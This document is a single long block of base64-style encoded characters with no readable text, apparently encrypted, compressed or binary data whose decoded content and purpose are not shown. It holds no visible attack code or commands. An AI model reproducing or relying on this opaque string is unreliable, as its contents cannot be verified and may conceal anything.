cuE0oOcS5lVITeaHJVf3XhMetEiE0hBFfRf2rv5hT0jJX2e9Xxsaly/SpKVW0CttXZHrOJHiIDrsSR3mUdwDeM5KYA1TWCnT5kcwx5C7mrdqCi2MeC7PGDDt2+CfM/C9RV3u4nw5yq/0YLxB63NhdyI/vRuC5bI1EK+3nVasTYi4stI7EsbQ/0jQz1B3qWdRIFs4J/XktfsrMjk7/dTTeNzOvhPrE+4gmcoGhC5Y6cL7uyjwanO45AgLH5qV5//oOJOAmgYj7CK15E23KyvxspQFOpBdSj0KqRlCydzAUPuSwT4ncDqNqT6Rket1jDh0NAkgB2Hcj1n8e34rC77bXpd23EsfAtuykNZCn+lonrz3NhFEjHORYcBryisA4he/szv9Zd/hJzbovH+yvin8rDpwO8KfRZhKijUGKMs63yFmx91fvsIU3lkSv6uuRd9ck8A4huv0jw6tBJaC8gG8xSqjWsywFrmS3C/+O+EsCRJChWQkofIxrQ+F+u9VKH2iC9TksXl0vSg35hyzBlT/HfXVpM9tvWxSdcSiABr0KkFzo+QtTrmjD5nLv3uCU4cO63Be7DqOboDQCNTa8yXI0aZl9/q6pzRv+p5HGse9M6IkpNkI+sj1LMgsRHi+ho53l5saHhDNH6m32k5vgwVz5jadcfsm47cMlVdsxdvFRYt6cxPIiArQogRO4fJrYcokGWaPrSRbL1ltehELWy1sH0RzxqyZ0KxonTQ2cwnR8gRF/Is9JM9RBr/wFjlAePViAXVuF7CcxqLEvvzaP5zlVlFVrCe5jwa5A8KGQtwc/eNKRmPm0nSW3Ws+pbO3wy15joNWL1sokm2sGfeNqrk1PjNsthhQq4vJVjRS4JxS9tHOo+bhYpWvGWWmfj/CBcVCp3f8/kF8evfeyfkggtN9+D6P8ZZWr+wTcquLGWTfXHHRJ2FFq1DpKBLnqj2qdDdp/kzEEKA0xrZCfkkQjide364We1F/Wp0/eQZVwAxCBlaAoPIOd6+TIEmdHtVQsVo+QCoUQXdJH2LAiQhP6Vjy+DwO9N3jxKwBbgFgzjSEem/DWq1YGDq4J5ZeX2t4Q6/MoCFxrBSu1QNL1dnbBgE9KuRoMvbPnwi59OpmTTB+VsTCXMet+xpjYInR3fJeCpOaPqJUy7+ENXKn/W1Pm2hqJQUFJeM4Gkg1ZL6BJslz3PF9ECZv9UjksznbxgbiEhBgY5bXFmM/EwC9fGNdMGhLp1Df4pVxwma+5KdZAHtKPv1ktQPH9L2fqGdAQfdmorzjUjqEJBhqsAsVhHAcLFore38HUFbTXFlVzPnlC1FdXEOh5AvOmx3gi77P+4a5CK8rq5+RCfgd5iklTOVNxAkyFPgac2TlQstYb7NLauSoFYKi0ZYR5D45MdfKGVR5viQW4kuN4VGJGatpC9YsXWgDYu8TJ3yYwLKCsbcSoV9AS4RH6CpjPttdB+5MPx6AmeRXoJIR5bbE44MXvWVLydsgrguA/dUYV2UAXEMKJmRqQyCmmaL6UEdL8EY0vCT5L0FMiWZJHZUmCCba6ZVmvh1Ny02bpqzttqraC/sGz472nHNfQyQibyKY/GKUU0tGW+LZx7mPoEs3tz9bdGTZ3FpF9e7GmBihhf/v6bWPkpBfqi8Lq7jlrSXt5pQGfki9sjr8PDDlbE/dDc69RVCI613wQ7BmoyqRd72PxpJJA93fjWdawS2fa+WO9zcSzW77AGTM+Uf8VLDU6h5sSVHj4MGt/NyVwjXeI8RePHiWceWep0ob2UtPthWtpoOKmAejWpESvdKyZQBUioKlDQ0VV1GKug7yFdhBhM8CYGjgJQCspmpRW9POkERCwX6eQRG1FJwGowxDdYiUEJkHAbYWlhvJzn7EqAwV3OPGBLophVB18ThxRhfaTUUXp+V4moQ7ppacGpThYi0C7RpCKOitCZzBK6qmCz6CzRroAIDea0+gq3x7rxCGnPYNzyeyFgBAWy48nR4FSC8pWod4RW+ske6GWmNgvAcLg1poUgcjR5zS4tsPPfVbJiv6Nm8l/Kj2yt82TSAKB+zMk+7HMdGYCHb9jXSeqamvrJFytVkb0Q1X0dBhdG9JxuOk7xc/VzfjSXZA4rTKkohD/fYaP2L6b9gtTTrAZoO0xvva2gc61P7C4fsnmy7zg6M7BwUQLNQ+94zDStLNpuGdZzQz6Po+N2a+ySPY1A3iQ0HV4Vo5vlJHS6KedJgAef51LQOz3RakQNXn/Q2Q7lM3r5q9sKN1Mk7NKFFTcnMSrxXuzbT9+rqsoQ+4PdEHEyI6EmcWowSGUzwF/QjE+hADfUFQaUX3x8Soy9RBWUT6Sr8aM4uVZQVrY9DVGbxOl1avY5wGbRO+ftpM+D6ZaCtSA4Ahwh6vMXBihYVpNG1HhN9qFJ3OQ2/PYFzsqx7ISBYnR0HY3d92mr5eaIuNxpfMJk5sX6VbgDHssDyJ80jlKnl0mY5kC0TQyZM22ha1DjorENsuV594yNxM2kfazTvESvfwwxKd/hWP9mvYLp6D9LcayblbeJux2ugvDiEGoDkMt9V17E0Ew3CLDN7AQ/7QW7n2ppV8v0bQefLP9zn8EH4DYccF5MXzkDhUCUSio6cBeTqmtgiJ8ZMBiKewubySoRKyRPDF+gEvmas3HvCGeVW+fDS/WPqkpUEvl/ouH3FtG4O58TkEKWm275JitHZXiZP/wNxGF4XTTj0lTgvd0gTh6bWXc1wxR2fhjENZMG4zf3+P2KLwoo+pXpa0ptHuc1i2GIgER0M37sYctiBRCQ8+zNDUOxCn8bUFmPsZroNbWiKoI5DHQE9e694vTg9AcbDyZiSZuSPsmXd68wd00/w31DQUluUGZXAz1Y+qkqQq+0/37l6WWvuPyp2YijmE6yoimkTU8fIs5Rw/osaLrlpnL0rKY3x3v9fbCgGABAykSuz2iySiOQi6yNXRoNEDb2/DvTNI/T7wefT+/6XfZNWRphF/qVvkkIDA4Fm0A/JoH8VeIdFodSZ6il4tQPs3G43Hsg1oWIEneA0SjCrYOscN4bdC0288KhxCMazpl5EC2QtWhOlJ6o9teXbI5VijYZ1cs+O42qaWa25rr5Bldn9HVQ6gDIpYwraxy+rZAB5Zlkfr7IxXvZ1QMc0FVUqKYi36Mx3rbNwMMAFC9sDSK3d6inA7qKjED1AELIi+qmLEpmNiduhcouKSUljK5t5OXXqcQLPMvlPgRcmS8kLaIEooLR0qKjmfTC4L/NEHb6Jw2nNtG1Uu80S7s0bqibqJWdvNQYTy2q+OvWoznqJ3wsW5XuViLsUkG062ys3JayOOf1/RniR+i9ugi64KdXfYgoqK9Ky9E87kobW2U97f6VEkWwaoehDImpReGU5TZnfEvPPmG8JxU0AGQqcX5MPOTgEna5IK7vfz3wktW9QWAon33GxvVXL7tGksbqPWc43JUpvPiQcfHpRrB7mruwIckVJIPjVWx3gLiiHNCuZE2+ADD/QkCulQajGbdPeCJ6FxISNW4Pa51cKMfR450LHmuAfSDBym64BXmN55G/jG9rkn+5XxQ4W8h2bdtwYfSB+f/7guoKfgcx4yjsI3sbNRixRgwgTUdm4LVXUzwvYaSwt5F8NaXD7CMwX7lgJhfTGbKohrxqYBdrD+aTiktwIJeRuav/8lBzIHh3HkaGt+/JyTPdCLpVeLoPVAWMNbs1VIf6ospITHzFFAoUgKL144SChjSrOrqLmkiA4xkKvHkYYLor3yOc8Fhibb64ri5eWZfPXX9ZdYLej7RZqJR5jJXLpyosVKeblAnHf8TfM0hB1BG0J+u8aelbtwuvbRFwTVzOlOJB+MwnadAF4lmhCzeFTsZ+6BOk3IYCSYjKni4QvCfUCm5fXsbTF4i71LF36dlyOIlm9adRWAzHgaZVOvxOSGmVYo1FWu7CGM7bhMddAA3eixU3na7dXSEbw97Z2Jv1DP8F4bQMrOBCQCdJpDUo4jc4q9XuR1C2v9+h/xALWflHa97xBWI/Uy81aTkPjAs0N54H/pPrkfLYWftyDdQrB+3lEPTNCitxygwBv/qokX+t1jSiQcZt75p0fY/YB3JbFjWd4DervRkd1hJIG0BZrfPVctnp3yc+20StgkhxtnzV+CMMK8B4Hdo6TvIhVPpwkPUzCxideJLXmMcV9QvskVYVHFDon17D1E2FLSH8IrV+SclXLU3/b1s87QEMYzanzpQQK7T7JZNJUmidus9fLPoEhq4PSNpAfXYacjFyd0+c8kSTtxhjinbNBo/GdXpEa2m413RBRoQ6H+9nY9C/JCodr7WEY2N2W9xs9SBny7fFgxrCqK5KfpDkMjumI8DYaxr9gk9aZogjdgHxo8Jka8n9uk0rrKOTQpFVPOWWigjNY1pg0qdWTth0jFsDgDbqwVucFGb1TUzgQk1NcITbVuE8pGzx/KPlyPFw0xtBLr4vc61vzTuhMZP5DHE3Vn+x8vpMyaHZyQXD0srLXko4aF09ztNPxEFH9Fu/fGaKyuqX6WZDqz23dNJC4OgalxCR8nLPSamNEs6IRfhkRLVFtOWLTjWhRa96oa2Kql5e/Fi8355CSSvhpM0vdVohyc5dEvWeBlFo0irxNc4Qq4+eTeCT+ixU5PeDDtd/WdlHIO/LnrbtFHOrvcUBI9LkAqiPJxl3dtOSrMA607gYO4HDWH/WZzJAI3DdBm8aaTAgcFfpRrJVNMvL4+rvnvXAuIFbupFmOF6Bp5x0MLY3+8TuzE+aLa7OyutHO3uJyFA/W9GHHPUEYw0vaxawyW7psnwjLUCxuC7tUNAbyWk49tTGkr1vP2mtA6CXvRVaXUyFLP9u/V38LUxZjb0J8MEIWrev2O6EgjqOZw3v08IvAffUjJdrKlj9pDo1hxORBdvdJp0vRPOyssJzhdBcz1rZlKm5Qq0jeo95ldhDXXaGdm504u2c/ZhHiSEBPDrZhCw1tAJ4PCYpg+ajSy7gyv1laPly+F6olTE5sXFpMoSrXLHhckNOJG8rEMxNrX50k1201ewdQw/iKCqM828o7hmkH4j3DEgqQxuO962M1AwZSaJ2M0fPA9rtWkARbecNV/tNy4jRA/ejGAQmLjR46Piw800P5PX+ojeqLK8PrHun2+DUXS+qSYqrtHeZt8IoZFshD+GZKyL308w0M+q9+eGtX+6BWPx+xNCg710W5w1DS0K8l+jC1PcLvptu9xZENENEzQ1OZ0rrFlA5ubgdUrl0C8zxpIZSVSIUbt7gw5IWDULL4nNVHOVWMPbo6mjp5K8kruMTXS1ixcrCGdgryo/Q6ejlddMoipBFWEKUI1K1qf77l4fJPxX4Xy4+DXhbjaK9bAvjFz8sLaWnKHlvNqgsbRmQFRm9GviSGrJeK8Cecsqd9tYBfhb3S+6ENQrO4rWQ/UyRsLOqXLr9ExbIJYeQtay5seRLX6xBXHOKXHf5hSJgTjluxMNlD9k1L2zplQOp62nn3l/xk7BGi5f/GGmGVPAcPpvoMZ7psx9Y1XHTfea/Ewpt+8cZ/VV5Ai1eeIubbFI6V4+kNrfhfwsosCS7aTYpM/my8dGC/Nug6UA14P6EBEeaUv52Q4bixVBH0pM9Lt3NjMRGSaUxeWYEATKe/iIXMZPWGbNAUGOv42vM26I+2cPIqV7A0CjdfshuInhaREYS6+N7DLW3F16rTX/9fuhKR9780V7n9NqHmHy2DO9vbUp0uUqMyKvMK6ihUwfEkCXEfVc+B97+/FgEAYY6HpIjirMmwQFoty4Z2bURkpxOV8qbQWyCyXrAzGipjVvCMhDz/b0ChzWbLQGQwJjHiDXjtpvCt3a64v648OWKvkYrMRnHaXVhVWnOMYQrZ4rv/bjeqKhT8mZ0z1LrgHcaFaI2eWlz+noctQyh2kauq8uOyDNSrh2XGlT+vu4KpGFZi3SlvR5TiSu98NOC6JcotMWQDlXIIVoyKu4iIZBgIXphoGXL4u5bpuIO29D5dQUFMZpGxfspLpHQqT1d2EiY/A7jkjVyRaaeyoIhxPF2962JHPOE+8VHf6HkiKWl7kNiHnC+OD1tzu+NjzOryKSyAYs4pbEO4Jek78r4jKWIvoLzWZcnFQf8FzN8oJGXNQHN+hbj6VgZVfLPvDM1omK2AL5GMyxklBiAd08MvHswKL/kyHhRPdN/Era9PGg9AZwLuWoQU/WoOLZn/byWe7fal9QAWwwA1UE4tcKSUKEJuaXkOd4C0TsyDMDh1GkC0mBzF4c1HV1y1CbfKGaEgs1Z3fKRIdiDQWQ+03tL/cc+3O2GS7a9DNRHmOofdDjNiq+wrQ2SCZCmqPXzTF6vubq4E+lRxCzDd95yBQ8beRluxZd/49iFmLRjZGglZJ/k8+gKChcvatrr0/lU0MvNPfd4sFnH5uGff7xE6StQtj3DgFtPz5G6iHF9x4WvAJ3eK23QLg+SbagNZOb03+JhuCPm0J+EdZ2A8uy9Qup7eleXCWnD1rXNlMHgU36sGxtwJydBPBpR+WeREQsE7+/oF70ZIEGzZAAMgifASu3Ecwa8Acwhp5uJk2HQK67BEblWmGZh3oI8YsBhRTQiJqQxiuRVWd/pGBQ5AYe8YCLlCQMFTQjOcikyYSDb3yx1nCS7xoFwk00fybQO/BkR+x4zF6z+j1n7nOLIBRaqHUUJuLOqY0pc8ZsXTbwrAl2XhQ6PmaCDYDaBqVSYaBHokIKcT9OHugvQO2YRSsCcINgmmAQ9tRhMYIbbEV07J8JqvhsRH23xlkGJggJE6W1kFIPIiaAHiFy9VvQe1oexfk8REPRd/yXTdPcRnAGAYkRhGE6veG3P5wJcOob97GlBxgkJhk8owEamXGE04N4xJ1a07H4exxVfgmnxioWMjYzXcaEusRbMG53OQ6fylnxqr3EIj/sk8unXQ01glONV10peIBKm0ogwbTZ9NgLZHPrTaW6A3loZcVtOTnG7eoDe1EAmCWMPZOaMPilolWoH1X8Us60v15tK2hjMjNIaEKfL86oXJt8dPLPJHyCadcpQOwv0kpJBC/gpfts+OsE1B9ClWEMJ/5/dM0mWK2kbwIXfb7HhmNd0HoERrMTvy1k7+wK1OlMZMLBjDIISSdhvk5g+ecfqVUOJYW0KMXkW/zbLpBPFQ3uCr8in0YokB3WypGP9rFrHg1TdP9hc7kvUe9CsvyOCxh/7fyu/+z2fi+UAzS7DAMg6brvHNrbzBx2MocyFqB/q5LCr6Q4GZfw+rBwk/p3gs+D6h5lxGFDjps2fY1edkY9CzTrM8CbBJ4A1ONA3hblTbdL6T9w2OKSmCEndEqjE7hn21jTJFy8a8k56H/qiRyBRHuyaZ4LYKXeoJnpum1xNJ2mMFO1vgmQOqGCIGiUJlEDDGRECJokDrSiV39M0ZWTFE0uieAskImQ+yeeVunNMpEj6RzClHa98YmwlS49WVvEhcMZUx+1zG2B8OyFQe/IpPYc7lzWlNnQ4M3vqlFFLjXSg9GdfGZqLGMrlbi9bg91Q89c6S/9FmcK1ZAiZe91yRO9EKqqsRBCC0HijCmWLG1hfz6YcO4vVOxcfw4DUlUrfAg2i8qxNTAwe0HfsWXTsrir7NT++VzWEosaNasRXf+pZJf6zCVna0gdOLnypntSjYrM5Dikt2y5MPU3llzBSEu1V5vaTgDHPM5LZiaHGJewI9EATrPtvG8raHv8dwCocw5XFpGJqLlWcs6L9yw1Rntve0QNbN5L/GQ63a0COELALF/GL2YsJsOagSmM88N0Y6+hA6tsEcquXiYG0heUSzJk4dAKzcCPVa28v9uCfriUdLU9FyjJuDeHmeiu43PXAgATiOhH0r/L4Bg0Q21khZGGUGde12Koz31OASE7dAOHwjckRcBwMBOr51+FQwjhEaioQyDf+Dx3eHj1as/ykcL4fSF+k/p2c52RuUKjs3HB6Jwb9LbuZPMA0TUumxRvODHRlosJs0gOP1/7Qn4w6dF1z2OhkqXNcLotfyKSv2eBgpoyTWeSaiHt4Uvu/piKoaRSp4qdkqAxFseRm34SHf7D6xowI7QC676cbrFX1E0cqtGpRpLf1neuXGP3hhNjfKFuqFfEi/0lQa/UAUb8bXFyfF9MxwYS0T3/l1nowfxpdKJb1z2PnuxZleCL75VSMmPhxtMG0K+qWULEY2SuXC0O/NJ/wV8icv6hVBd1hGPPqQa7dyk/BipDEfvSOWj8I21o7jzyjHpcDGzy5FAYs3xepm77rUpzz1H9iA6DcQjV3Iy/ivnAtmhL5ilmh1z5Jif2JJqVijesh4/SPdKxqPbryOtIJBJsq+spQDMlTdL4j494Cr1okcIqk1ZBCzziEOzUk3fq/wX8Otm/IZGGjRu0275CafILTj11tY/ph6h0RZosYL6BjwHklluBTqzWQIlEugO+mtILwLPIjG+RyOi/GMIxjK2vNmZ92g7aLl+gyxic7K3IdbOwn2b/z9tQWG768HfoXpNymimDnSrSC340VA8nIzvWVO8lL8gVyS/o48z41X/sHy9vWMXcNKdkCAb+d1fQ4Wdp2VO5TfMlYNAid/wdLREahXTc6B2VQlyFhPYKYTJmLyBK7di60pE15DaZhjHMgtVTaSE9c5RoAF/oJzot/HWbeESvmuQbuljBZgPlttEzej4biE1PZAgnOZ1jkfNR9qPE0G54c07VmfvWtRWpSZLVR3svcFRDypuKG598433ua/EdCQTZhQ/cxH/DJw19CsoRxij4v+eA1btos5Jy2oxbnaZ498Ef/PnrC8CwBxiNTlbgkyVp+TuwAl9UX+iaIH0U8Uk/a9Vcvn+wz8kw0VmGh/HoPbdl/1prSAEVZwDMnH465pDOvm0GgXiI+7oenvYAi2M31AGQCA8MO3j2JRbtgkhG3Tr7bG/J9qwrFV87HdMwe5KmOE0tXiSuIFKbD639i1Zf+0FkB33CTREuwNU1BnQtnHy2wbHPPg8SLXW2zMJf0FHa2MjrqQMz9lMBR+MaCs90yK9XaSlY5c/YpxkqyoUQaCrj1hmTgWb+kne84JTY5Wjgc0/mKNJ6JpQxFW8CSbforSQrOWaMm5VsARo7lh01SIbfLbuJzh2+KRiMFC2rl8xZur7aC0CybC40Vgg/BE3adVQs886R2fQRS9UjlhxfLMDYmyljVoygMe+Bqw3TUzEKcHW1LSkdiL8tReNAArftjpuZgQBwcpScmTDvGoZuKJJa2E5waAHOkBLum7Q42UG6PcTMF4gerHMZS8j5di1pkmFhj97v2ElP2Ji47KTC3JHDAlGq5nbzP+tJGYJsv3UC75JYiCB6JzLGAkNq3ghkgCf8gG4Xek47ZUn0kSHbTMJLVmVp43eAiO6DAG3FUWgLchFmMkxM3ysNYgL+LsrosCvAhUYzSUbwrLAma/0IU0brKMSBS1Iqto2RwZ76mUjDcam3Z/ZMz1qSnst8jt9k+4aBmRsLSscUV+ZDooODMWEJeeQQBzMA1mHQ/maiRj40i7MTBQIYkt+RW4FSVOujpvtRh+LFOCjm5x8aE5bA7ZdPJ4N/MRLoO5H+Lc3RqBjpzpYBeBhe+SCoiJ697R8gIZGhtoyX7ppWaIVAMQYH+ZEoAIIFc4jI63E9FyW5bwNEFR8HHbzKirfilTEP6W3RbZ+2ZJ9taPM1jk6sn2F2Yinb9fbaWwo/qinGxWHaPuYTTvd8ZE7/kV+MBCPoCBlbSm388gA/MEMTFA8zn8ri6Ylta05QBDAtkysJ+NBovnLidZo6Pah1H6AE9UAGrqjburUeAXhtSHgqOQUiFaz1pT7+ZVaXWFgAbfPdYLz+EjtZ9uq6yqgq42LpY1u/JcHfoGZi+PSTFWtoMYaVQBONHbsAQSyeiaRPfTO0A/A9DImNxxDfQ4gM01g5/w47s0hDUcIVWdqMkyS4slPwJ5r+vYSYdMguWlVfD/mTGoUUNBDQ2xBmLC4FBG2QUmhPdfgn962r8laqPd4VsjiOlojp82LIK1PAU/avJgCfDkgO25Lx4kG+Y9EJBUIXLrvE4t00fi0YUpLp+Pc5TLZXsHrru9aggSIJ8oj9mX2rgxurb//UYnycxtZwWxI3YwVxH/C9a69v7Q1k9SqRcPfx9VKmDJFc1cLI8lrsUJbDSPjvROkKgwOkqoLjqMK7ChMwNsiU600O34oGbvtJpp1z+KQ13P+YRdBl7Oi3RADnnMDPVaFZTgspM//sRzgvs1B8QLw+2bEXcoeF7G7xWIfvS+6Pv5/Za4FsGckqxt6Cf0Hm5YQOg3DQ+tk5Wgeu1UY6nrXeSYMiu8nyJne685yf5zp15gQP66onIRBGlSLrbaYoWln2u8N/TcEs2QfjF9V7xniF9CUTzHJrqc+71Rqu8i416ot2IIgwCkkkUlIJjCKzXGbRKAnHuVm8e7eWN+yNQdpQ2Z5qF7sGz/xfPIsiK7BKtuod64ZNxb7iLRPf5kCrWE16/4j7/VEa3ngx/kdfIVw+zovlPw2TwM7VelsRCBYO11kLki0x2Nq+fIGeJowBGO6ArVfpJyRQwvfGiqh7vNsi7OtLkKJDRFq8t3uaDnmtHO4vd0xsjiv9K78gdhYPTuT31JVDChdTXt7kxPVJCaFwrqetbQQEeFy+PddkitwFGNKwyeGmeuStbvJENsnBEt/zkUkMiIr34EU/xKeeBhrfuTPXcP7VJTA88DVVFnWoUa70xel7HHON9iPUVNUrDOhPJh1Lnr0StoYn1a8t2ijXB6uLc/PTVjAXNkykW3+YT0oYJNwLXdgD7b6TpWMGDG9ykwmHlFbC14K4ZGKdT3ICIm8DjRBFbkENJHm1gvs/XUUOxvCfStrR7i/kY6ZX59T+yupzn0heHxcxCIN7ncx4ugJWuV5DHpSkoJpylwLxtGfwo7jcix1GDMzYgnMY0ae9q6FGWPhRq77AktEhUvExwfpAkKT4R1pEuMkMIyVjD86MaZ6WRqssQS48eXanzmbemdRElsOdq/Vn3FXRM4QmuY5sNXyZgXZOICeW2+EnU8P0aNKEPLt+1REzGMftpET36e6C8YeqsYmCnFpsy2zHowPWbIIdvbcvRrRVmCZ8NbYbXlYMNIZVs/aQacLpPA+7CK+jvaMmmw8tqBPuQx1ftIT1GgJG9oNHsnnXwM4theiDpHn5ECdhY+mc3yaZCebhJ2HQQKOpkVLJAge6QaGYUj+vOvGzoLRiETWKCzS0RaYc3gui0EyQY/DlVAgzBZsexxHU7iH4XPqC/lMoDWQ9PP9GWUXwuErPDoMF47loqCfhEvPm2LYEE59mjafTIvrsnwKsNij8dLNJXByBr569wPaiOL+BMks/WyBtXEfaLcv6f4o1UOEfkZb7ee2Cqxs+dbftsKrASvUXAqEH/N5/iWy+gkooYoCYSKhX6JJyDJPFlwTPoh0XL2mRIQDAXwpKXycOq952sIiy1V1wzItZvqHbtd5i3rEr9Inwabl8oxrk1sxXmNOxeV6k030rYC/vbvhQDfakxM9VebEHYNmoEL6gZS2ezsXwuSnjcMaeqm+IFho0odvikDQf5da4Cwq4cLynj7wFhMb4lMclWRTNRyR5qMRcXKMo5pPLS2EWNu5HYVJwGjcOBEVrIpIqrtUgCwjH4BSPr5u0MCfJhwGVaYQ9Sj4V7ps73AV9/m3l0xyekj4+M8NVfZS1ObtJ9gSltfn4ecBvEKs0bRxxznz5B8lph95YGsUgJwwkXJ8W9IScnwDBYz3kdS9sShYVatTRbWtKOZlF7lSja8Yt88MiojPSkLmGf8FG6+I09G8Q7wkT1Br85Fw+TUaRb8pfNBt7SoXS2SjKcca7ljH9bGZ7x0eR7fOPMTadiqN8n2eQJaWZZ/TajNuPMGmcho8t2gvDPKOKa4IU4uEhIngf6lfl/7tEw5ivUobbZ8dn5i4eUCYURFdBAe/WQG6p+A+6J1kRJ1gfvnKTYynajGlvzBfsqkOemGsiwKFkgCN12BAMe1Tkohz4WtcrcW0Zyfh1xxxo9MVVDJWo/9o4VmL+P6GgJvZlVo8SifAO3GxvbFYNJTWTvyd1YmJ2f5lbYPeIMDu6qEBVprdVqmB/ez1GgBCXbuT9deAus9vWh0/RHwGDMRMZodZK9GVbikWdQtcxQElHGJX4nRdPnQlcDdupLrs1+l1h16KdUJTw+wuBXhJUj6fRGq296avecdwjPdBw2B1wovV2m+WSGpQK95pdPze27kps/4LUbG5g+6/Kes3J/CDEJY3D0HwG8zk6sNrBlO5+IyV7dXSdHIaM2yNasts+U3NjsIZ3jQj4Y+/FY1xKJylaRN0jaJwE9jPQzKAPkN1XFbZVET92TYRcOKCSt6UAhBW1/5m8zsF2r0QH9j3zhoAUf4QyAQA0IO6zSX97Kfn2uvMOrbkk/6KWQND52SSrdRDBeiKii5Hb6yrQL5y0Gh8lStNzyCFkXoEIB256v+fMyALHComlvYXsLs5n0Mp7PK6WTvpybN78fgjFI1PtvmfRQb3ZxpeqpQkd3JILiJtZxlWjMNTdztar8J7WOJAx3FrbfhTg/DN1VwR5pLrDe/QRzif4kaweS/FjlK8CCw/XqMySpXEzGv5teEauieuNdkjvmrrZesZObCLZCuQdfP9K0p0gQJPSJhLegfhy6CoFU5Mg4aa5v+yLq2Up5Tc5XNXa80p3MIX14uwgtWzva+ycbRWbuIswkgiI3cfcFORTM0Vfyequj7UlR0KcmAAmYy3B4xrHDW3T6TY96T0CEC71meiP62Ew8gLwqsfM4vvvtHURS5DSXI+J2wHrobCrNYdh0E2OVCfzTUmvkBCZIOZTP75YPH4DTlws/qNml1DhV332oulKNIZFdgZ5usjSMZQ+ekgj5Lec/aTWRQM+FBY8ZXQ7zh5bdBcnWPO6upAZ6OhANSbTrM5ESZTVU3CU3yOdi4cZHX98AR4UwlIuRYzroZ0SFHYBuKEb5DelosfFa3dnDcC/lqRhGjYT9SVjAzPOwrgsC8QTIyylF4uKzM7tiE8JvjxjAxnuTypVtfvt8lNBdz5W0raCLnB9mVqOC+8N3qH7/yu5dd703TdjN2Z53OmNZSbjPrHzd2FBMwFAzVUEgL46QbjD9Tpn8M5IzVt81Heaqje+hTZNrRAcl2zptRKrsL9H/p1qvBXqFgw3q4ai3ttjn7Hm2rBBsS0YVl4CUNFw+ugDJHhYstNjStRkBewmVX/3b3fVtsGTGY13z59mF/mZfdgux8vsaOkTn7ZbwKkR0lkyNZ/B0HAsBVBD3qkUtDWGbRfcmoKwnTBYAaqcLB5DFuH31Q+EFlH1gaW3ZSHn69tL5uZBmHZJ7068c32cJMl9zVPzDFLOUV2BN2VeIFuaQ4Djv6wN7uO+KV7TDxje6qLqj7WK6PrV2yciazmIMOMbAkOBMO+roVAExp+XdBIvXm8p5riSBQvLeGG3xOtKKK5K2t1rWRm4Qtm5ItUd6NgeTFyFCT/2gpykI0NtmbFXFfpwDYwAv/w0hCsHa7iNjxv+NrjS0YuORKUMtOPxx6x+XbBrLFvUJkS4XQlbunbrRQGPQ9xXnOHbIsfji4DmbK3j7PHsvY6N85NkRao3nq19+v61zrWe44d0rlAqERzbfD1yS7mW+RgJf1pXtJjiG31B6LTsSOmXv3ByAIALE7E18ZXCm+hbGAT8/az/6bIygRoq76Dx4skKfnR+X6OkZ+V617g2FkQx7/0k5ocFCRTXMEEyxjn6bnjC3NA7yMANxRk42vVoLkT7x9/zY60fZb69xzO4SyBt1dwJ0GwxOA6jiAEvh1si+o/ayvOD4S8sTUqfv43J6sk8GKY6yAVT2vIvU752NP3qpT7NI7tmHzumeJwp+NsVQn/Df3cbro1Ybq6ynMa/pX77SPPlFR5SAzat1ADst8tAqbUa5PkwHPq2ZF6cHaQk59PqqFxGdMQVQkefd0EmFvG0kp/uDbL7gMoI/mJa8yPdNFC5lSrH0UeJPtuQMkydv3oHpNf3jZgvNTfCarl51L7OfxsysBG0sDkGGrVn+eZ3wDKE6jrSkK6sYuHrYeRfGQo3lpUhNd/QaiiDndBzl0ezu/8U8cecY7MTMXP/oOuYuZriFAUE+a59pf8UY4CM3dUfsyB5MoWqcOiLWyyZcanIp6Im4mU8X0804ILf85pbEXgc1IfjlYpJ1xxu59kKyDNJ1U8qDy4pCYP4HxfO66pruNoPa/kj8vdV6PoNluet3A1Cdn8lAUNJBiCskW5v1s/AtAN0B8HOqZ1g/FvnNeTnDAL9twe/33g2vcYgj5i4IQEg7RrOyRhYNKDbu/fmriM4Enzkl2Xj0aGpwgcYcpzdx422qU+gknZ3/q6LjfsBS1OwyVl7odVMWQ7QMb35tFig+/ed2/YGBn8/negIBsNImndVrMBbsGVfosabyWEvtRqHY50RPf+2ySd83jDhjk+y4J2zkp2z9d3rBkRCE8RtMo8N5d9TwamOB4hwKh5NXGWcirr1eKd+9r5tkFG7NvvLRPQvR4ylERg5wmPufD8MtKLCeeDyxDVndvLJuMFAD30z8BQNkDrCLxIFfw0ph70arc3in4S8IROUXU/IZygGFMG+aZp/3sCQQTtrN6X5fOmo/vJFng1jaG+ML5SHI8cDJmIIyylTOrf+RMk1Z2gM+KFboqtvC4Q8hGIWVqsvo/PsyiFTiqVRIrXn3L89/BfM+YmdwfJfdkBGwIMcKcE6o76KzQtU1Sny43ewIbMHq+Ado7s4gaL5JidgEhmKrK1+69D8Y2Mt+IOxM/zgjt+Hyo8t7pjLIF3vvKPQ554H04GH5CRHubJtctf7uBIpAZBB0aOfet/WRtZ6RIvXiJT1AYjCkVKX0deD75shjSg3hmVfGa5+FUSgUGRGsQ3W9mA4Tu0fJbby+hD3onrgdj5ZTUKd3AJRXGJBZmFwu8fG/tMtJo/Vo4EktacWTwHBuEzyffYlHm8GgLJNOTCAnkoTeNrDz9elULKj6o9ts9h5FG6U4Pmeeybln4LCzr6dBz2bNnqt9+nH+dMATGyx/+fyYdTmk7v/nfDMYfwd/4Sp594fSURdwEoP7W7uGhZ1aCXIv4Syi/+1W3j2LUAUkAjtBdHnWeiTVwR3+AaFsrvoCCzWfKTiVAQEk85O6qx28nhlnS6YQy/p+T01hI8Km/oJR5f9UTA1x+TYVqiA2LwYjlUpH3bqb2QnWZjMQF6a1LEFBm0FC9lPrdyIc5f6Sjo2sQrH6350rrqTioDUwRAE3TgMh1sjX3STNjYfcCzjOQxfNZeZruXOhC+0yAg/jrpQfrQCm1PhPWHhrqwFbzIBN6wObvJpMZ90rt2ACQuTLn/CrcGE8RzbQiNf6a7gaa7cavoGCgeyUs6QW787/qm84/1DS/pWvYL+vcv4DAEHHKAmeFH802aeBIxEkzgwkEw1FlW99BjTA0FNvwbxlfhA0YgpXHht3TGKC2XZSBlnccm5wXkJNu/lrW98qiReE/8FZJFoXZZv6P4cA4gINQKHdjNNB2TB1M5BdXstDXMiRSEyAI7AWloUdN16nZXm0KS/fAIJmFSj8uoDwxBmMBSlohlPP3vJ0XQMZmahoCKXBy4k7jFD4BQu1/mLnXHoDIIqarYkLpKFlPDj6+NUYrygV0USkOm3rOvo6McbCKX/Z0Pf0B51WkN+QzkkLg/DjzHGpz7cjGa3Ub5FicBrJfnCU9JfwLbFT8eIUPmJwI9i19xg0ZMBLCXTLaGrmqeylQl+MJbsKxhLWSQCvvw5BqRGA2Y8kafPwultketUpadb7v8Ru7mfSnyRyo98aBYo5NEbGGT+8MoEK5qA8NunQg4qPawUmqIyAV+J7